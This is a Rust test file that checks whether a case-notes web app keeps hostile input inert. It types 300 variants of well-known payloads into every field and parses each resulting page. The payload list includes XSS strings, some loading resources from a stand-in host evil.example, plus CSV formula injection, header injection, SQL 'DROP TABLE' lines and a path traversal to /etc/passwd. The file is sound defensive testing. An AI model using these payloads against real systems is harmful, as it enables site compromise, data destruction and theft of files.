//! Hostile words in every field, shown on every view: they stay words (T40).
//!
//! Each payload is typed into all fields of a note at once. Every page that shows the note is then
//! parsed as a browser would parse it: no element, attribute or address may be there that the same
//! page with plain words does not have.

use super::kit::{Answer, Family, css, house, sound, uuid_key, with};
use axum::http::StatusCode;
use scraper::{ElementRef, Html};
use std::collections::{BTreeMap, BTreeSet};

const PLAIN: &str = "plain words";

/// What people have typed into forms to break pages; most are variations on published lists.
const SEEDS: [&str; 60] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\" style=\"background:red",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\u{0}script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{feff}<script>\u{200b}alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\nSet-Cookie: daybook=1\r\n\r\n<script>alert(1)</script>",
    "'; DROP TABLE note; --",
    "1 OR 1=1; DELETE FROM ledger_leaf; --",
    "../../../../etc/passwd\u{0}.html",
    "<p class=db-mark onclick=alert(1)>Child seen</p>",
];

fn payloads() -> Vec<String> {
    let dressed = SEEDS.iter().flat_map(|seed| {
        [
            (*seed).to_owned(),
            format!("\"/>{seed}<x y=\""),
            format!("</p></li></td></fieldset>{seed}"),
            format!("words before {} and after", seed.to_uppercase()),
            format!("{seed}{seed}\n\n- {seed}\n1. {seed}"),
        ]
    });
    dressed.collect()
}

/// The names of all fields in which something can be written on the page, and the tick boxes that
/// make them count.
fn fields_of(page: &Html) -> (Vec<String>, Vec<String>) {
    let names = |selector: &str| -> Vec<String> {
        let selector = css(selector);
        let named = page
            .select(&selector)
            .filter_map(|field| field.attr("name"));
        named.map(str::to_owned).collect()
    };
    let texts = names("#note input[type=text], #note textarea");
    let ticks = names("#note input[type=checkbox]");
    (texts, ticks)
}

/// A page as a browser builds it: elements by name, names of attributes, and where it leads.
struct Shape {
    counted: BTreeMap<String, usize>,
    names: BTreeSet<String>,
    attributes: BTreeSet<String>,
}

/// Elements whose number must not change with what was typed. The rest (paragraphs, list items,
/// links to rules) follow from the text's own lines and from what the policy finds in it.
const FIXED: [&str; 21] = [
    "script", "link", "meta", "title", "base", "style", "form", "input", "textarea", "button",
    "select", "option", "iframe", "object", "embed", "img", "video", "math", "template", "body",
    "main",
];

/// Attributes that follow from what the policy finds: the passage, and words in its place.
const OF_A_FINDING: [&str; 3] = ["data-line", "data-words", "data-instead"];

fn shape(page: &Html) -> Shape {
    let all = css("*");
    let mut shape = Shape {
        counted: BTreeMap::new(),
        names: BTreeSet::new(),
        attributes: BTreeSet::new(),
    };
    for element in page.select(&all) {
        let name = element.value().name().to_owned();
        if FIXED.contains(&name.as_str()) && !keeps_a_finding(&element) {
            *shape.counted.entry(name.clone()).or_default() += 1;
        }
        for (attribute, value) in element.value().attrs() {
            assert!(!attribute.starts_with("on"), "{attribute} on {name}");
            if matches!(attribute, "href" | "src" | "action" | "formaction") {
                let ours = value.starts_with('#') || value.starts_with('?');
                let ours = ours || (value.starts_with('/') && !value.starts_with("//"));
                assert!(ours, "{name} leads to {value}");
            }
            if !OF_A_FINDING.contains(&attribute) {
                shape.attributes.insert(attribute.to_owned());
            }
        }
        shape.names.insert(name);
    }
    shape
}

/// The buttons that keep a finding are as many as there are findings.
fn keeps_a_finding(element: &ElementRef<'_>) -> bool {
    let is_part = matches!(element.value().name(), "button" | "form" | "input");
    let mut around = element.ancestors().filter_map(ElementRef::wrap);
    is_part && around.any(|one| one.attr("data-finding").is_some())
}

/// What the same view looks like with plain words, and with any words at all.
#[derive(Default)]
struct Views(BTreeMap<&'static str, Shape>);

impl Views {
    fn know(&mut self, view: &'static str, page: &Html) {
        self.0.insert(view, shape(page));
    }

    fn check(&self, view: &'static str, page: &Html, payload: &str) {
        let seen = shape(page);
        let known = &self.0[view];
        let lists = ["p", "ul", "ol", "li", "br", "q", "strong"].map(str::to_owned);
        let unknown: Vec<_> = seen
            .names
            .difference(&known.names)
            .filter(|name| !lists.contains(name))
            .collect();
        assert!(
            unknown.is_empty(),
            "{view}: new elements {unknown:?} by {payload}"
        );
        let unknown: Vec<_> = seen.attributes.difference(&known.attributes).collect();
        assert!(
            unknown.is_empty(),
            "{view}: new attributes {unknown:?} by {payload}"
        );
        assert_eq!(seen.counted, known.counted, "{view} by {payload}");
    }
}

struct Draft<'a> {
    family: &'a Family,
    url: String,
    texts: Vec<String>,
    ticks: Vec<String>,
    version: u64,
}

impl Draft<'_> {
    fn typed<'a>(&'a self, payload: &'a str, seen: &'a str) -> Vec<(&'a str, &'a str)> {
        let texts = self.texts.iter().map(|name| (name.as_str(), payload));
        let ticks = self.ticks.iter().map(|name| (name.as_str(), "yes"));
        texts
            .chain(ticks)
            .chain([("kind", "home-visit"), ("seen", seen)])
            .collect()
    }

    /// Sends the payload in every field; gives each view that shows what was typed: the page with
    /// everything wrong named, the check page, and two versions side by side.
    fn views(&mut self, payload: &str) -> Vec<(&'static str, Answer)> {
        let house = house();
        let (seen, key) = (self.version.to_string(), uuid_key());
        let mut sent = self.typed(payload, &seen);
        sent.push(("once", &key));
        let refused = house.post(&format!("{}/finalise", self.url), &sent);
        assert_eq!(
            refused.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{payload}"
        );
        self.version += 1;
        let check = house.get(&format!("{}/check", self.url));
        let other = format!("other {payload}");
        let conflict = house.post(&self.url, &self.typed(&other, "1"));
        assert_eq!(conflict.status, StatusCode::CONFLICT, "{payload}");
        vec![
            ("refused", refused),
            ("check", check),
            ("conflict", conflict),
        ]
    }

    /// Every text field holds what was typed.
    fn holds(&self, page: &Html, payload: &str) {
        // HTML has no way to hold a null or a lone carriage return in a document.
        let fit = |words: &str| words.replace('\u{0}', "\u{fffd}").replace('\r', "\n");
        let wanted = fit(&payload.replace("\r\n", "\n"));
        let fields = css("#note input[type=text], #note textarea");
        let held: BTreeMap<&str, String> = page
            .select(&fields)
            .map(|field| {
                let value = field.attr("value").map(str::to_owned);
                let held = value.unwrap_or_else(|| field.text().collect());
                (field.attr("name").unwrap(), fit(&held))
            })
            .collect();
        for name in &self.texts {
            assert_eq!(held[name.as_str()], wanted, "{name}");
        }
    }
}

fn draft(family: &Family) -> Draft<'_> {
    let house = house();
    let url = house.start(family.maya, "home-visit");
    // One row of each repeating part.
    let rows = [
        ("kind", "home-visit"),
        ("seen", "1"),
        ("other.0.name", PLAIN),
        ("event.0.detail", PLAIN),
        ("action.0.what", PLAIN),
        ("view.0.view", PLAIN),
    ];
    house.post(&url, &rows);
    let (texts, ticks) = fields_of(&house.get(&url).page());
    assert!(texts.len() > 45, "{} text fields", texts.len());
    Draft {
        family,
        url,
        texts,
        ticks,
        version: 2,
    }
}

/// T40: three hundred payloads in every field of a draft, on each page that shows the draft.
#[test]
fn hostile_words_in_a_draft_stay_words_and_come_back_as_typed() {
    let house = house();
    let family = house.family();
    let mut draft = draft(&family);
    let mut known = Views::default();
    // Lists, line breaks and emphasis are the text's own, so plain words with them set the shape.
    for (view, answer) in draft.views(PLAIN) {
        known.know(view, &answer.page());
    }
    let payloads = payloads();
    assert_eq!(payloads.len(), 300);
    for payload in &payloads {
        for (view, answer) in draft.views(payload) {
            let page = answer.page();
            known.check(view, &page, payload);
            if view == "refused" {
                draft.holds(&page, payload);
            }
        }
    }
    assert_eq!(house.notes_of(draft.family.maya), 0);
}

/// T40: the same payloads in a finalised note, its chronology line and its file.
#[test]
fn hostile_words_in_a_finalised_note_stay_words() {
    let house = house();
    let family = house.family();
    let sound = sound(&family);
    let finalised = |words: &str| {
        let one_line = words.split_whitespace().collect::<Vec<_>>().join(" ");
        let literal = literal(words);
        let url = house.start(family.maya, "child-protection-visit");
        let alone = format!("p.{}.alone", family.maya_person);
        let why = format!("{alone}_why");
        let changed = [
            ("reason", one_line.as_str()),
            ("place", &one_line),
            ("context", &one_line),
            ("detailed", &literal),
            ("analysis", &literal),
            ("working-well", &literal),
            ("worried", &literal),
            ("needs", &literal),
            ("comments", words),
            ("other.0.name", &one_line),
            ("other.0.role", &one_line),
            ("event.0.what", "meeting"),
            ("event.0.detail", &one_line),
            ("event.0.with", &one_line),
            ("action.0.what", words),
            ("action.0.owner", &one_line),
            ("action.0.measure", &one_line),
            ("view.0.holder", &one_line),
            ("view.0.view", words),
            ("interpreter", "yes"),
            ("interpreter_name", &one_line),
            ("interpreter_from", "contracted"),
            ("interpreter_original", words),
            ("responsibilities", words),
            ("not_happened", &one_line),
            ("not_happened_why", words),
            ("anonymous", "yes"),
            ("verify_attempts", words),
            ("verify_result", words),
            (alone.as_str(), "not-known"),
            (why.as_str(), words),
        ];
        house.finalised(&url, &with(&sound, &changed))
    };
    let mut known = Views::default();
    // The first has no record beside it, as every other has.
    finalised(PLAIN);
    known.know("note", &finalised(PLAIN).page());
    let pages = [
        format!("/children/{}", family.maya),
        format!("/children/{}/chronology", family.maya),
    ];
    let payloads = payloads();
    for payload in &payloads {
        known.check("note", &finalised(payload).page(), payload);
    }
    for page in &pages {
        let shown = house.get(page);
        assert_eq!(shown.status, StatusCode::OK);
        let shape = shape(&shown.page());
        for name in [
            "img", "iframe", "object", "embed", "base", "style", "math", "video",
        ] {
            assert!(!shape.names.contains(name), "{name} on {page}");
        }
    }
    assert_eq!(house.notes_of(family.maya), payloads.len() as u64 + 2);
}

/// Words that mean themselves in the plain editor: a backslash before every sign.
fn literal(words: &str) -> String {
    let mut literal = String::new();
    for c in words.chars() {
        if c.is_ascii_punctuation() {
            literal.push('\\');
        }
        literal.push(c);
    }
    literal
}
